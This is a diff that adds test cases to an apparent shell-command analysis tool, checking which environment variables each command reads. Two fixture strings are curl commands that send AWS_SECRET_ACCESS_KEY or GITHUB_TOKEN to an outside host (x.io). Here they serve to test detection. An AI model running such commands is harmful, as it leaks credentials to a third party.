@@ -558,6 +558,18 @@ describe('hostile input', () => {
   });
 });
 
+describe('environment variables read', () => {
+  it.each([
+    ['curl "https://x.io/?k=$AWS_SECRET_ACCESS_KEY"', 'curl', ['AWS_SECRET_ACCESS_KEY']],
+    ['sudo env A=1 curl -H "Authorization: ${GITHUB_TOKEN}" https://x.io', 'curl', ['GITHUB_TOKEN']],
+    ['echo $HOME $PWD $1 $?', 'echo', []],
+    ['T=x; echo $T $U', 'echo', ['U']],
+    ['cat > $OUT', 'cat', ['OUT']],
+  ])('%s', (command, name, vars) => {
+    expect(only(facts(command), name).env_vars).toEqual(vars);
+  });
+});
+
 describe('names and secrets', () => {
   it('lists every name once', () => {
     expect(facts('ls; ls | grep x; sudo ls').names.sort()).toEqual(['grep', 'ls', 'sudo']);
